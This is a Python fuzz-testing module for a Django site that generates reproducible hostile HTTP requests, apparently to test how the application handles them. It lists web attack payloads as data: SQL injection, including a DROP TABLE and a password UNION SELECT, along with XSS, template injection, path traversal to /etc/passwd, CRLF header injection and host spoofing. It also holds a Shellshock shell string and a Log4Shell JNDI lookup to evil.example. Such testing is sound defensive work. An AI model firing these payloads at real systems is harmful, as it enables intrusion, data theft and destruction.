"""Generates malicious requests from the URL configuration; the same seed gives the same requests."""

import json
import random
import string
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

from django.http import HttpResponse

from evenhand.config.middleware.well_formed import mark_unsupported_charset
from support.addresses import SiteAddress

SCRIPT = "<script>ev1l()</script>"
ELSEWHERE = "https://evil.example/"
STRINGS = (
    "' OR '1'='1' --",
    "1; DROP TABLE authorities_user; --",
    "1 UNION SELECT password FROM authorities_user",
    SCRIPT,
    f'"><img src=x onerror={SCRIPT}>',
    "javascript:ev1l()",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "file:///etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f",
    "\0",
    "a\0b",
    "\r\nX-Injected: 1",
    "%0d%0aX-Injected:%201",
    "-1",
    "0",
    "9" * 40,
    "-" + "9" * 400,
    "1e309",
    "NaN",
    "0x7fffffff",
    "١٢٣",
    "é" * 300,
    "\u202etxt.exe",
    "\ufffd\uffff\ud7ff",
    "🏳️‍🌈" * 50,
    "İstanbul",
    "a" * 900,
    "null",
    "true",
    "[]",
    "{}",
    "00000000-0000-0000-0000-000000000000",
    "ffffffff-ffff-ffff-ffff-ffffffffffff",
    "2026-02-30",
    "0000-00-00",
    "99999-12-31",
    ELSEWHERE,
    "//evil.example",
    "\\\\evil.example",
    " ",
    "",
    ".",
    "..",
    "%",
    "%zz",
    "%ff%fe",
)
NAMES = (
    "next",
    "q",
    "page",
    "email",
    "login",
    "password",
    "code",
    "reason",
    "name",
    "role",
    "id",
    "authority",
    "user",
    "file",
    "date",
    "csrfmiddlewaretoken",
    "action",
    "confirm",
    "period",
    "sort",
    "credential",
)
METHODS = (
    "GET",
    "GET",
    "GET",
    "HEAD",
    "POST",
    "POST",
    "POST",
    "PUT",
    "PATCH",
    "DELETE",
    "OPTIONS",
    "TRACE",
    "PROPFIND",
    "CONNECT",
    "get",
    "GE T",
    "X" * 40,
)
TYPES = (
    "application/x-www-form-urlencoded",
    "application/x-www-form-urlencoded; charset=utf-16",
    "multipart/form-data; boundary=X",
    "multipart/form-data",
    "multipart/form-data; boundary=" + "b" * 300,
    "multipart/form-data; boundary=X; charset=base64",
    "application/json",
    "application/xml",
    "text/plain; charset=rot13",
    "text/html; charset=nonsense",
    "*/*",
    ";;;",
    "",
)
HEADERS = {
    "HTTP_HOST": (
        "evil.example",
        "testserver:99999",
        "testserver, evil.example",
        "[::1",
        "",
        "a" * 300,
        "testserver\0",
    ),
    "HTTP_X_FORWARDED_HOST": ("evil.example",),
    "HTTP_X_FORWARDED_FOR": ("127.0.0.1", "' OR 1=1 --", "1.2.3.4, " * 50),
    "HTTP_X_FORWARDED_PROTO": ("https", "gopher"),
    "HTTP_X_HTTP_METHOD_OVERRIDE": ("DELETE",),
    "HTTP_X_ORIGINAL_URL": ("/work/",),
    "HTTP_ACCEPT_LANGUAGE": ("*", "x" * 5000, "en;q=99999999999", "-,-,-", "en-" * 500, "\0"),
    "HTTP_ACCEPT": ("", "*/*;q=-1", "application/json", "a/b;" * 400, SCRIPT),
    "HTTP_ACCEPT_ENCODING": ("gzip;q=nan", "\0", "," * 900),
    "HTTP_RANGE": ("bytes=0-18446744073709551615", "bytes=-1", "bytes=" + "0-," * 800, "lines=1"),
    "HTTP_IF_MODIFIED_SINCE": ("Thu, 99 Foo 99999 99:99:99 GMT", "0", "Sat, 29 Oct 0001 19:43:31 GMT", "\0"),
    "HTTP_IF_NONE_MATCH": ('"', "*", 'W/"' * 400, "\0"),
    "HTTP_IF_UNMODIFIED_SINCE": ("tomorrow", "Thu, 01 Jan 1970 00:00:00 GMT"),
    "HTTP_REFERER": (ELSEWHERE, "javascript:ev1l()", "a" * 4000, SCRIPT),
    "HTTP_ORIGIN": ("null", ELSEWHERE),
    "HTTP_USER_AGENT": ("", SCRIPT, "() { :; }; /bin/sh", "${jndi:ldap://evil.example/a}", "\0" * 20),
    "HTTP_AUTHORIZATION": ("Bearer x", "Basic Og==", "Basic \xff", "Bearer " + "é" * 20),
    "HTTP_EXPECT": ("100-continue", "the unexpected"),
    "HTTP_X_REQUEST_ID": ("\r\nX-Injected: 1", "a" * 900),
    "CONTENT_LENGTH": ("-1", "many", "99999999999999999999", "0", ""),
    "HTTP_COOKIE": (
        'sessionid="\\000\\000aaaaaaaaaaaaaaaaaaaaaa"',
        "sessionid=../../../../etc/passwd",
        f"sessionid={'a' * 3000}",
        "csrftoken=\0; =; ;;;; a",
        'messages="\\377\\376[[[["; sessionid=x',
        'django_language="\\000"; django_language=xx-' + "y" * 200,
        "a=b; " * 200,
    ),
}


@dataclass(frozen=True)
class HostileRequest:
    method: str
    path: str
    route: str
    body: bytes = b""
    content_type: str = ""
    headers: dict[str, str] = field(default_factory=dict)


def through_wsgi(handler: Callable[..., HttpResponse]) -> Callable[..., HttpResponse]:
    """A test client's handler, after the checks of the site's WSGI application (config/wsgi.py)."""

    def respond(environ: dict[str, Any]) -> HttpResponse:
        mark_unsupported_charset(environ)
        return handler(environ)

    return respond


class RequestGenerator:
    """`existing` has, by URL parameter, slugs and ids that exist in the database and belong to other people."""

    def __init__(self, seed: int, addresses: Sequence[SiteAddress], existing: dict[str, list[str]]) -> None:
        self.random = random.Random(seed)
        self.addresses, self.existing = addresses, existing
        self.ids = existing.get("", [])

    def requests(self, count: int) -> Iterator[HostileRequest]:
        """Each address is used equally often, with a different request each time."""
        for index in range(count):
            yield self.request(self.addresses[index % len(self.addresses)])

    def request(self, address: SiteAddress) -> HostileRequest:
        method = self.random.choice(METHODS)
        path = address.filled({part: self.part(part) for part in address.placeholders})
        if self.random.random() < 0.1:
            path = self.mangled(path)
        if self.random.random() < 0.4:
            path += "?" + self.query()
        content_type, body = ("", b"") if method in ("GET", "HEAD") else self.body()
        headers = {name: self.random.choice(HEADERS[name]) for name in self.random.sample(list(HEADERS), self.up_to(3))}
        return HostileRequest(method, path, address.name, body, content_type, headers)

    def part(self, name: str) -> str:
        values = self.existing.get(name) or self.ids
        if values and self.random.random() < 0.6:
            return self.random.choice(values)
        text = self.random.choice([*STRINGS, self.noise()])
        return quote(text, safe=self.random.choice(["", "/%"]))

    def mangled(self, path: str) -> str:
        return self.random.choice(
            [
                f"/static/..{path}",
                f"/static/%2e%2e/%2e%2e/%2e%2e{path}",
                path.replace("/", "//"),
                path.rstrip("/"),
                path.upper(),
                f"{path}%00.csv",
                f"{path};a=b",
                f"{path}.php",
                f"{path}{'a/' * 700}",
                f"{path}%0d%0aX-Injected:%201",
                f"{path}{quote(self.random.choice(STRINGS))}",
            ]
        )

    def query(self) -> str:
        if self.random.random() < 0.05:
            return "a=" + "b" * self.random.choice([3_000, 9_000])
        pairs = [
            f"{quote(self.random.choice(NAMES))}={quote(self.value(), safe=self.random.choice(['', '%&=']))}"
            for _ in range(1 + self.up_to(4))
        ]
        return "&".join(pairs + pairs[: self.up_to(2)])

    def value(self) -> str:
        return self.random.choice([*STRINGS, *self.ids[:20], self.noise()])

    def noise(self) -> str:
        return "".join(self.random.choices(string.printable, k=self.random.choice([3, 30, 200])))

    def body(self) -> tuple[str, bytes]:
        content_type = self.random.choice(TYPES)
        kind = self.random.random()
        if kind < 0.1:
            return content_type, self.random.randbytes(self.random.choice([1, 500, 20_000]))
        if kind < 0.13:
            return content_type, b"&".join(b"a%d=1" % number for number in range(1_500))
        if kind < 0.15:
            return content_type, b"a=" + b"b" * 1_100_000
        if content_type.startswith("multipart"):
            return content_type, self.multipart()
        if content_type == "application/json":
            return content_type, self.json()
        return content_type, self.query().encode("utf-8", "surrogatepass")

    def json(self) -> bytes:
        depth = self.random.choice([10, 900, 20_000])
        return self.random.choice(
            [
                b"[" * depth + b"]" * depth,
                b'{"a":' * depth + b"1" + b"}" * depth,
                json.dumps({name: self.value() for name in self.random.sample(NAMES, 5)}).encode(),
                b'{"credential": "\\ud800", "a": 1e999, "a": -0}',
                b'{"credential": {"id": null, "response": []}}',
                b"9" * 5_000,
                b"\xef\xbb\xbf{}",
                b"",
            ]
        )

    def multipart(self) -> bytes:
        name, value = self.random.choice(NAMES), self.value().encode()
        whole = b'--X\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n--X--\r\n' % (name.encode(), value)
        file = (
            b'--X\r\nContent-Disposition: form-data; name="file"; filename="%s"\r\nContent-Type: a/b\r\n\r\n%s\r\n--X--'
            % (value[:200].replace(b"\r", b"").replace(b"\n", b""), value)
        )
        return self.random.choice(
            [
                whole,
                file,
                whole[:-7],
                whole.replace(b"\r\n", b"\n"),
                whole.replace(b"form-data", b"form-data; filename*=utf-8''%00" + b"a" * 300),
                whole.replace(b"\r\n\r\n", b"\r\nContent-Transfer-Encoding: base64\r\n\r\n", 1),
                b"--X\r\n" * 2_000,
                b"--X--",
            ]
        )

    def up_to(self, limit: int) -> int:
        return self.random.randrange(limit + 1)
